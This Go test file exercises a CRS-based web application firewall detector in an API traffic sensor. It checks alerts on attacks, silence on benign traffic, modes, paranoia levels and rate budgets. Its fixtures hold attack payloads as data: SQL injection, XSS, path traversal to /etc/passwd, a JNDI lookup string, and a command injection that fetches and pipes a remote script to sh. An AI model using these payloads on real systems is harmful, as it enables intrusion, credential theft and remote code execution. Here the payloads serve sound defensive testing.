package crs

import (
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/apisensor/sensor/decoders"
	"github.com/apisensor/sensor/pipeline/alert"
	"github.com/apisensor/sensor/pipeline/detect"
	"github.com/apisensor/sensor/sensor"
)

// Building a WAF parses every CRS rule (about a second): the tests share
// one detector per configuration.
var (
	detMu sync.Mutex
	dets  = map[detect.CRS]*Detector{}
)

func detector(t testing.TB, c detect.CRS) *Detector {
	t.Helper()
	detMu.Lock()
	defer detMu.Unlock()
	cfg := detect.Config{CRS: c}.WithDefaults()
	if d, ok := dets[cfg.CRS]; ok {
		return d
	}
	d, err := New(cfg)
	if err != nil {
		t.Fatalf("New(%+v): %v", cfg.CRS, err)
	}
	dets[cfg.CRS] = d.(*Detector)
	return d.(*Detector)
}

var conn = &sensor.ConnMeta{
	ID: 7,
	Key: sensor.FlowKey{
		SrcIP: netip.MustParseAddr("10.1.0.5"), DstIP: netip.MustParseAddr("10.1.0.9"),
		SrcPort: 51000, DstPort: 8080, Proto: 6,
	},
	CommunityID: "1:test",
	Source:      "test.pcap",
	Start:       time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC),
}

// browserHeaders are what a well-behaved client sends; CRS scores some
// missing headers at higher paranoia levels.
func browserHeaders(host string) []decoders.Header {
	return []decoders.Header{
		{Name: "Host", Value: host},
		{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
		{Name: "Accept", Value: "application/json, text/plain, */*"},
		{Name: "Accept-Language", Value: "en-US,en;q=0.5"},
		{Name: "Accept-Encoding", Value: "gzip, deflate"},
	}
}

// httpExchange builds an HTTP/1.1 exchange and flattens its parameters as
// the decoders do.
func httpExchange(method, uri, ctype, body string, extra ...decoders.Header) *decoders.Exchange {
	path, query, _ := strings.Cut(uri, "?")
	hs := browserHeaders("api.example.com")
	if ctype != "" {
		hs = append(hs, decoders.Header{Name: "Content-Type", Value: ctype})
	}
	if body != "" {
		hs = append(hs, decoders.Header{Name: "Content-Length", Value: strconv.Itoa(len(body))})
	}
	hs = append(hs, extra...)
	x := &decoders.Exchange{
		Conn: conn, Seq: 1, Proto: "http/1.1",
		Request: &decoders.Message{
			Start: conn.Start, Method: method, URI: uri, Path: path, Query: query,
			Version: "HTTP/1.1", Headers: hs, Body: []byte(body), WireBodyLen: int64(len(body)),
		},
		Response: &decoders.Message{Status: 200, Version: "HTTP/1.1"},
	}
	l := decoders.DefaultLimits()
	decoders.ExtractParams(x, &l)
	return x
}

// grpcExchange builds a gRPC call over HTTP/2 whose request message held
// the given protobuf string fields (field-number paths, as decoded
// without a schema).
func grpcExchange(ctype string, fields ...string) *decoders.Exchange {
	x := &decoders.Exchange{
		Conn: conn, Seq: 3, Proto: "http/2", StreamID: 1,
		Request: &decoders.Message{
			Start: conn.Start, Method: "POST", URI: "/shop.v1.Catalog/Search", Path: "/shop.v1.Catalog/Search",
			Authority: "catalog.shop.svc:50051", Version: "HTTP/2",
			Headers: []decoders.Header{
				{Name: "content-type", Value: ctype},
				{Name: "te", Value: "trailers"},
				{Name: "user-agent", Value: "grpc-go/1.68.0"},
				{Name: "grpc-timeout", Value: "99952u"},
			},
			Body: []byte{0, 0, 0, 0, 12, 0x0a, 0x0a, 'c', 'o', 'f', 'f', 'e', 'e', ' ', 'm', 'u', 'g'},
		},
		Response: &decoders.Message{Status: 200, Version: "HTTP/2"},
		GRPC: &decoders.GRPCCall{
			Service: "shop.v1.Catalog", Method: "Search", ContentType: ctype, Status: 0,
			RequestsTotal: 1, ResponsesTotal: 1,
		},
	}
	for i := 0; i+1 < len(fields); i += 2 {
		x.Params = append(x.Params, decoders.Param{Loc: decoders.LocProtobuf, Name: fields[i], Value: fields[i+1]})
	}
	return x
}

func TestAttacks(t *testing.T) {
	d := detector(t, detect.CRS{Mode: detect.CRSAll})
	tests := []struct {
		name     string
		x        *decoders.Exchange
		category string
		loc      decoders.Location
		param    string
	}{
		{"sqli in query", httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", ""),
			"sql-injection", decoders.LocQuery, "q"},
		{"xss in json field", httpExchange("POST", "/api/comments", "application/json",
			`{"post":12,"comment":{"text":"<script>alert(document.cookie)</script>"}}`),
			"xss", decoders.LocJSON, "comment.text"},
		{"rce in protobuf string", grpcExchange("application/grpc", "1", "coffee", "2.1", "x; /bin/bash -c 'wget http://203.0.113.9/x -O- | sh'"),
			"os-command-injection", decoders.LocProtobuf, "2.1"},
		{"lfi in path", httpExchange("GET", "/static/../../../../etc/passwd", "", ""),
			"path-traversal", decoders.LocPath, ""},
		{"sqli in form", httpExchange("POST", "/login", "application/x-www-form-urlencoded",
			"user=admin%27%20OR%201%3D1--%20&pass=x"),
			"sql-injection", decoders.LocForm, "user"},
		{"lfi in multipart file name", httpExchange("POST", "/api/upload", "multipart/form-data; boundary=XyZ",
			"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n"+
				"--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"../../../../etc/passwd\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n"),
			"path-traversal", decoders.LocMultipart, "avatar.filename"},
		{"xss in xml", httpExchange("POST", "/api/notes", "application/xml",
			`<note><title>hi</title><body>&lt;img src=x onerror=alert(1)&gt;</body></note>`),
			"xss", decoders.LocXML, ""},
		{"java in header", httpExchange("GET", "/api/items", "", "",
			decoders.Header{Name: "X-Api-Version", Value: "${jndi:ldap://203.0.113.9/a}"}),
			"", decoders.LocHeader, "x-api-version"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := d.Inspect(tt.x, nil)
			if len(out) != 1 {
				t.Fatalf("got %d alerts, want 1", len(out))
			}
			a := out[0]
			if a.Detector != Name {
				t.Errorf("detector %q", a.Detector)
			}
			if tt.category != "" && a.Category != tt.category {
				t.Errorf("category %q, want %q (%s)", a.Category, tt.category, a.Summary)
			}
			if len(a.Owasp) == 0 || a.Owasp[0] != "A03:2021" {
				t.Errorf("owasp %v", a.Owasp)
			}
			if len(a.Evidence) == 0 {
				t.Fatal("no evidence")
			}
			found := false
			for _, ev := range a.Evidence {
				if ev.Rule == "" || ev.Message == "" {
					t.Errorf("evidence without rule or message: %v", ev)
				}
				if ev.Location == string(tt.loc) && (tt.param == "" || ev.Name == tt.param) {
					found = true
				}
			}
			if !found {
				t.Errorf("no evidence at %s %q: %v", tt.loc, tt.param, a.Evidence)
			}
			if a.Flow.GetSrcIp() != "10.1.0.5" || a.Source.GetFile() != "test.pcap" {
				t.Errorf("flow/source not filled: %v %v", a.Flow, a.Source)
			}
			t.Logf("%s %s: %s", a.RuleId, a.Severity, a.Summary)
		})
	}
}

// benign is traffic CRS must not alert on at paranoia level 1.
func benign() []*decoders.Exchange {
	ipHost := httpExchange("GET", "/api/users/7", "", "")
	ipHost.Request.Headers[0].Value = "10.1.0.9:8080"
	midstream := grpcExchange("application/grpc", "1", "coffee mug")
	midstream.Request.Authority, midstream.Request.URI, midstream.Request.Path = "", "", ""
	return []*decoders.Exchange{
		// hey and some SDKs send a Content-Type on every GET
		httpExchange("GET", "/api/users/1", "text/html", ""),
		ipHost,
		httpExchange("POST", "/api/echo", "application/json", `{"a":"b"}`, decoders.Header{Name: "Expect", Value: "100-continue"}),
		// an HTTP/2 stream whose HPACK context was missed
		midstream,
		httpExchange("GET", "/api/users/42", "", ""),
		httpExchange("GET", "/api/search?q=coffee+beans&page=2&sort=-price", "", ""),
		httpExchange("POST", "/api/orders", "application/json",
			`{"customer":{"name":"Alice O'Neil","email":"alice@example.com"},"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, please."}`),
		httpExchange("POST", "/api/login", "application/x-www-form-urlencoded", "username=alice&password=correct+horse+battery"),
		httpExchange("PUT", "/api/users/42/profile", "application/json; charset=utf-8",
			`{"bio":"Coffee lover & amateur baker. Based in Lyon.","links":["https://example.com/alice"]}`),
		httpExchange("POST", "/graphql", "application/json",
			`{"query":"query User($id: ID!) { user(id: $id) { name email } }","variables":{"id":"42"}}`),
		httpExchange("DELETE", "/api/sessions/3f9a", "", ""),
		grpcExchange("application/grpc", "1", "coffee mug", "2", "10", "3.1", "en-US"),
		grpcExchange("application/grpc+proto", "1", "blue teapot"),
		grpcExchange("application/grpc-web+proto", "1", "green tea"),
		grpcExchange("application/grpc-web-text", "1", "oolong"),
	}
}

func TestBenign(t *testing.T) {
	d := detector(t, detect.CRS{Mode: detect.CRSAll})
	for i, x := range benign() {
		if out := d.Inspect(x, nil); len(out) != 0 {
			t.Errorf("benign %d (%s %s): %s %v", i, x.Request.Method, x.Request.URI, out[0].Summary, out[0].Evidence)
		}
	}
}

// TestGRPCContentTypes checks that CRS's content-type allow-list (rule
// 920420) was extended: gRPC and protobuf calls raise nothing at any
// paranoia level's protocol rules that look at the content type.
func TestGRPCContentTypes(t *testing.T) {
	d := detector(t, detect.CRS{Mode: detect.CRSAll})
	for _, ct := range []string{
		"application/grpc", "application/grpc+proto", "application/grpc+json", "application/grpc-web",
		"application/grpc-web+proto", "application/grpc-web-text", "application/grpc-web-text+proto",
		"application/x-protobuf", "application/protobuf",
	} {
		x := grpcExchange(ct, "1", "coffee mug")
		if out := d.Inspect(x, nil); len(out) != 0 {
			t.Errorf("%s: %s %v", ct, out[0].Summary, out[0].Evidence)
		}
	}
	// Without the extension the same call would score: check the rule is
	// still there for a content type nobody allowed.
	x := grpcExchange("application/x-unknown-rpc", "1", "coffee mug")
	x.Request.Headers = append(x.Request.Headers, decoders.Header{Name: "accept", Value: "*/*"})
	d2 := detector(t, detect.CRS{Mode: detect.CRSAll, AnomalyThreshold: 2})
	out := d2.Inspect(x, nil)
	if len(out) != 1 || !hasRule(out[0], "920420") {
		t.Errorf("unlisted content type: want rule 920420, got %v", out)
	}
}

func hasRule(a *alert.Alert, id string) bool {
	for _, ev := range a.Evidence {
		if ev.Rule == id {
			return true
		}
	}
	return false
}

func TestModes(t *testing.T) {
	attack := httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "")
	// An attack the prefilter does not see (no quote, no keyword it
	// knows) but CRS does: only all, or a prior alert, runs CRS on it.
	quiet := httpExchange("GET", "/api/items?sort=1+and+1%3D1", "", "")
	prior := []*alert.Alert{{Detector: "injection", RuleId: "sqli", Owasp: []string{"A03:2021"}}}
	weakness := []*alert.Alert{{Detector: "jwt", RuleId: "jwt-no-exp", Owasp: []string{"API2:2023", "A07:2021"}}}
	benignX := benign()[0]
	tests := []struct {
		mode  string
		x     *decoders.Exchange
		prior []*alert.Alert
		want  int // alerts
		runs  uint64
	}{
		{detect.CRSOff, attack, prior, 0, 0},
		{detect.CRSSuspicious, attack, nil, 1, 1},
		{detect.CRSSuspicious, benignX, nil, 0, 0},
		{detect.CRSSuspicious, quiet, nil, 0, 0},
		{detect.CRSSuspicious, quiet, prior, 1, 1},
		// A weakness alert (not injection) does not make an exchange
		// suspicious: it may be raised on every request of a client.
		{detect.CRSSuspicious, quiet, weakness, 0, 0},
		{detect.CRSAlerted, attack, nil, 0, 0},
		{detect.CRSAlerted, quiet, weakness, 0, 0},
		{detect.CRSAlerted, quiet, prior, 1, 1},
		{detect.CRSAll, quiet, nil, 1, 1},
		{detect.CRSAll, benignX, nil, 0, 1},
	}
	for _, tt := range tests {
		t.Run(tt.mode, func(t *testing.T) {
			d, err := New(detect.Config{CRS: detect.CRS{Mode: tt.mode}})
			if tt.mode != detect.CRSOff {
				// Share the built WAF: only the mode matters here.
				shared := detector(t, detect.CRS{Mode: detect.CRSAll})
				d, err = &Detector{cfg: shared.cfg, mode: tt.mode, waf: shared.waf, newTx: shared.newTx}, nil
			}
			if err != nil {
				t.Fatal(err)
			}
			dd := d.(*Detector)
			out := dd.InspectAfter(tt.x, tt.prior, nil)
			if len(out) != tt.want {
				t.Errorf("%d alerts, want %d", len(out), tt.want)
			}
			if got := dd.Stats().Inspected; got != tt.runs {
				t.Errorf("%d CRS runs, want %d", got, tt.runs)
			}
		})
	}
	if d, _ := New(detect.Config{CRS: detect.CRS{Mode: detect.CRSOff}}); d.(*Detector).waf != nil {
		t.Error("off mode built a WAF")
	}
}

// TestFollowUp checks the detector runs through detect.Bind as the
// pipeline calls it.
func TestFollowUp(t *testing.T) {
	var d detect.Detector = detector(t, detect.CRS{Mode: detect.CRSSuspicious})
	f, ok := d.(detect.FollowUp)
	if !ok {
		t.Fatal("not a detect.FollowUp")
	}
	quiet := httpExchange("GET", "/api/items?sort=1+and+1%3D1", "", "")
	if out := detect.Bind(f, []*alert.Alert{{Detector: "injection", Owasp: []string{"A03:2021"}}}).Inspect(quiet, nil); len(out) != 1 {
		t.Errorf("bound with a prior alert: %d alerts, want 1", len(out))
	}
	if out := detect.Bind(f, nil).Inspect(quiet, nil); len(out) != 0 {
		t.Errorf("bound without prior alerts: %d alerts, want 0", len(out))
	}
}

// TestParanoia checks that a higher paranoia level enables rules level 1
// leaves out: a value full of quotes scores only from level 2 on.
func TestParanoia(t *testing.T) {
	x := httpExchange("GET", "/api/items?filter=a%27b%27c%27d%27e%27f%27g", "", "")
	pl1 := detector(t, detect.CRS{Mode: detect.CRSAll, ParanoiaLevel: 1})
	pl2 := detector(t, detect.CRS{Mode: detect.CRSAll, ParanoiaLevel: 2})
	if out := pl1.Inspect(x, nil); len(out) != 0 {
		t.Errorf("PL1: %s %v", out[0].Summary, out[0].Evidence)
	}
	out := pl2.Inspect(x, nil)
	if len(out) != 1 {
		t.Fatalf("PL2: %d alerts, want 1", len(out))
	}
	if !strings.Contains(out[0].Summary, "paranoia level 2") {
		t.Errorf("summary %q", out[0].Summary)
	}
}

func TestThreshold(t *testing.T) {
	x := httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "")
	low := detector(t, detect.CRS{Mode: detect.CRSAll})
	high := detector(t, detect.CRS{Mode: detect.CRSAll, AnomalyThreshold: 1000})
	out := low.Inspect(x, nil)
	if len(out) != 1 {
		t.Fatalf("threshold 5: %d alerts", len(out))
	}
	if out[0].Severity < alert.Severity_SEVERITY_HIGH {
		t.Errorf("severity %s for %s", out[0].Severity, out[0].Summary)
	}
	if out := high.Inspect(x, nil); len(out) != 0 {
		t.Errorf("threshold 1000: %s", out[0].Summary)
	}
}

func TestConfigValidate(t *testing.T) {
	bad := []detect.CRS{
		{Mode: "sometimes"}, {ParanoiaLevel: 5}, {ParanoiaLevel: -1}, {AnomalyThreshold: -3},
		{BodyBytes: 10}, {MaxArgs: 20000}, {MaxRunsPerSecond: -2},
	}
	for _, c := range bad {
		if _, err := New(detect.Config{CRS: c}); err == nil {
			t.Errorf("%+v accepted", c)
		}
	}
	c := detect.Config{}.WithDefaults().CRS
	if c.Mode != detect.CRSAlerted || c.ParanoiaLevel != 1 || c.AnomalyThreshold != 5 || c.MaxRunsPerSecond != 200 {
		t.Errorf("defaults %+v", c)
	}
}

func TestRegistered(t *testing.T) {
	ds, err := detect.New([]string{Name}, detect.Config{CRS: detect.CRS{Mode: detect.CRSOff}})
	if err != nil || len(ds) != 1 || ds[0].Name() != Name {
		t.Fatalf("detect.New(crs) = %v, %v", ds, err)
	}
}

// TestWAFMemory logs what building a WAF costs in heap. Coraza memoizes
// compiled patterns process-wide, so the measure runs in a fresh process
// (this test binary, re-run for TestWAFMemoryChild alone).
func TestWAFMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a WAF in a child process: skipped with -short")
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestWAFMemoryChild$", "-test.v")
	cmd.Env = append(os.Environ(), "CRS_MEMORY_CHILD=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("child: %v\n%s", err, out)
	}
	for _, line := range strings.Split(string(out), "\n") {
		if strings.Contains(line, "WAF (") {
			t.Log(strings.TrimSpace(line))
		}
	}
}

func TestWAFMemoryChild(t *testing.T) {
	if os.Getenv("CRS_MEMORY_CHILD") != "1" {
		t.Skip("run by TestWAFMemory")
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	d, err := New(detect.Config{CRS: detect.CRS{Mode: detect.CRSAll}})
	if err != nil {
		t.Fatal(err)
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	t.Logf("WAF (PL1): live heap +%.1f MB, allocated while building %.1f MB",
		float64(int64(after.HeapAlloc)-int64(before.HeapAlloc))/1e6, float64(after.TotalAlloc-before.TotalAlloc)/1e6)
	runtime.KeepAlive(d)
}

// TestOutcome checks that the response decides the outcome, as for the
// tier-1 detectors: a DBMS error after an SQL injection is a likely success.
func TestOutcome(t *testing.T) {
	d := detector(t, detect.CRS{Mode: detect.CRSAll})
	x := httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "")
	x.Response = &decoders.Message{Status: 500, Version: "HTTP/1.1",
		Headers: []decoders.Header{{Name: "Content-Type", Value: "text/html"}},
		Body:    []byte("<b>Warning</b>: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1")}
	out := d.Inspect(x, nil)
	if len(out) != 1 {
		t.Fatalf("%d alerts", len(out))
	}
	if got := out[0].Outcome; got != alert.Outcome_OUTCOME_LIKELY_SUCCESSFUL {
		t.Errorf("outcome %s, want likely successful (%s)", got, out[0].Summary)
	}
	if out := d.Inspect(httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", ""), nil); len(out) != 1 || out[0].Outcome != alert.Outcome_OUTCOME_ATTEMPTED {
		t.Errorf("without an error page: %v", out)
	}
}

// TestSelective checks that in suspicious mode a long gRPC stream is judged
// on its suspicious fields and on those a prior alert names.
func TestSelective(t *testing.T) {
	d := detector(t, detect.CRS{Mode: detect.CRSSuspicious})
	var fields []string
	for i := range 300 {
		fields = append(fields, "["+strconv.Itoa(i)+"].1", "coffee mug "+strconv.Itoa(i))
	}
	x := grpcExchange("application/grpc", append(fields, "[300].2", "x; /bin/bash -c 'wget http://203.0.113.9/x -O- | sh'")...)
	out := d.Inspect(x, nil)
	if len(out) != 1 || out[0].Category != "os-command-injection" || out[0].Evidence[0].Name != "[300].2" {
		t.Fatalf("stream with one payload: %v", out)
	}
	// "1 and 1=1" passes the prefilter; an earlier alert naming the field
	// gets it to CRS.
	x = grpcExchange("application/grpc", append(fields, "[300].2", "1 and 1=1")...)
	prior := []*alert.Alert{{Detector: "injection", Owasp: []string{"A03:2021"}, Evidence: []*alert.Evidence{{Location: "protobuf", Name: "[300].2"}}}}
	if out := d.InspectAfter(x, prior, nil); len(out) != 1 || out[0].Category != "sql-injection" {
		t.Errorf("field named by a prior alert: %v", out)
	}
}

// TestEvidenceOrder checks that a rule matching several arguments reports
// the one that comes first in the request, every time: Coraza walks ARGS
// in map order, and replaying a capture twice must give the same alerts.
func TestEvidenceOrder(t *testing.T) {
	d := detector(t, detect.CRS{Mode: detect.CRSAll})
	for range 40 {
		x := httpExchange("GET", "/api/v1/search?q=admin%27--&page=1&sort=price%20AND%20SLEEP(5)", "", "")
		out := d.Inspect(x, nil)
		if len(out) != 1 {
			t.Fatalf("%d alerts, want 1", len(out))
		}
		var got []string
		for _, e := range out[0].Evidence {
			got = append(got, e.Rule+" "+e.Name)
		}
		if len(got) < 2 || got[0] != "942100 q" || !slices.Contains(got, "942160 sort") {
			t.Fatalf("evidence %q, want 942100 on q (the first argument) and 942160 on sort", got)
		}
	}
	// Chained rules: the first link matches widely (every header name,
	// every argument) and the next narrows it; the evidence names what
	// the chain kept, with the message expanded from it.
	chains := []struct {
		pl       int
		x        func() *decoders.Exchange
		rule, ev string
	}{
		{1, func() *decoders.Exchange {
			return httpExchange("GET", "/api/x", "", "", decoders.Header{Name: "X-Middleware-Subrequest", Value: "1"}, decoders.Header{Name: "Proxy", Value: "1"})
		}, "920450", "proxy REQUEST_HEADERS_NAMES:Proxy HTTP header is restricted by policy (proxy)"},
		{2, func() *decoders.Exchange { return httpExchange("GET", "/api/x?a=x--y-z&b=1%27;--%20x", "", "") },
			"942440", "b ARGS:b SQL Comment Sequence Detected"},
		// %{MATCHED_VAR_NAME} in the message is the variable's name.
		{3, func() *decoders.Exchange { return httpExchange("GET", "/api/x?a=1&a=2&b=3&b=4", "", "") },
			"921180", "paramcounter_args_names:a TX:paramcounter_args_names:a HTTP Parameter Pollution (TX:paramcounter_args_names:a)"},
	}
	for _, c := range chains {
		d := detector(t, detect.CRS{Mode: detect.CRSAll, ParanoiaLevel: c.pl})
		for range 20 {
			var got []string
			for _, a := range d.Inspect(c.x(), nil) {
				for _, e := range a.Evidence {
					if e.Rule == c.rule {
						got = append(got, e.Name+" "+e.Matched+" "+e.Message)
					}
				}
			}
			if len(got) != 1 || got[0] != c.ev {
				t.Fatalf("rule %s: evidence %q, want %q", c.rule, got, c.ev)
			}
		}
	}
}

// TestBudget checks max_runs_per_second: runs in packet time, a second's
// worth of burst, refused runs counted, -1 and mode all unbounded.
func TestBudget(t *testing.T) {
	shared := detector(t, detect.CRS{Mode: detect.CRSAll})
	prior := []*alert.Alert{{Detector: "injection", RuleId: "sqli", Owasp: []string{"A03:2021"}}}
	t0 := time.Date(2026, 11, 28, 4, 0, 0, 0, time.UTC)
	at := func(d time.Duration) *decoders.Exchange {
		x := httpExchange("GET", "/api/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "")
		x.Request.Start = t0.Add(d)
		return x
	}
	tests := []struct {
		name    string
		mode    string
		rate    int
		times   []time.Duration
		runs    uint64
		refused uint64
	}{
		// Two saved up, then one more per half second.
		{"burst then rate", detect.CRSAlerted, 2, []time.Duration{0, 0, 0, 100 * time.Millisecond, 600 * time.Millisecond, 600 * time.Millisecond}, 3, 3},
		// Time going back a little (another worker's older exchange)
		// adds nothing.
		{"time going back", detect.CRSSuspicious, 1, []time.Duration{time.Second, 0, 500 * time.Millisecond}, 1, 2},
		// Far back (files replayed out of order, a clock stepped back):
		// the bucket follows, or it would refuse every run until time
		// caught up.
		{"time jumping back", detect.CRSAlerted, 1, []time.Duration{time.Hour, time.Hour, 0, time.Second, time.Second}, 2, 3},
		// Idle time saves up one second's worth, no more.
		{"saved up", detect.CRSAlerted, 2, []time.Duration{0, 0, time.Hour, time.Hour, time.Hour}, 4, 1},
		{"unbounded", detect.CRSAlerted, -1, []time.Duration{0, 0, 0, 0}, 4, 0},
		{"mode all", detect.CRSAll, 1, []time.Duration{0, 0, 0}, 3, 0},
	}
	// A run only the prefilter asked for (no prior alert) leaves half the
	// bucket to alerted exchanges.
	t.Run("prefilter leaves half", func(t *testing.T) {
		d := &Detector{cfg: shared.cfg, mode: detect.CRSSuspicious, waf: shared.waf, newTx: shared.newTx, budget: newBudget(4)}
		for range 5 {
			d.InspectAfter(at(0), nil, nil) // suspicious by the prefilter alone
		}
		if st := d.Stats(); st.Inspected != 2 || st.Skipped != 3 {
			t.Fatalf("prefilter runs: %d run, %d refused; want 2, 3", st.Inspected, st.Skipped)
		}
		for range 3 {
			d.InspectAfter(at(0), prior, nil)
		}
		if st := d.Stats(); st.Inspected != 4 || st.Skipped != 4 {
			t.Errorf("alerted runs after them: %d run, %d refused in all; want 4, 4", st.Inspected, st.Skipped)
		}
	})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := &Detector{cfg: shared.cfg, mode: tt.mode, waf: shared.waf, newTx: shared.newTx}
			if tt.mode != detect.CRSAll {
				d.budget = newBudget(tt.rate)
			}
			alerts := 0
			for _, dt := range tt.times {
				alerts += len(d.InspectAfter(at(dt), prior, nil))
			}
			st := d.Stats()
			if st.Inspected != tt.runs || st.Skipped != tt.refused || uint64(alerts) != tt.runs {
				t.Errorf("runs %d, refused %d, alerts %d; want %d, %d, %d", st.Inspected, st.Skipped, alerts, tt.runs, tt.refused, tt.runs)
			}
			if got := d.Counters()["drop.crs_budget"]; got != tt.refused {
				t.Errorf("counter drop.crs_budget = %d, want %d", got, tt.refused)
			}
		})
	}
}
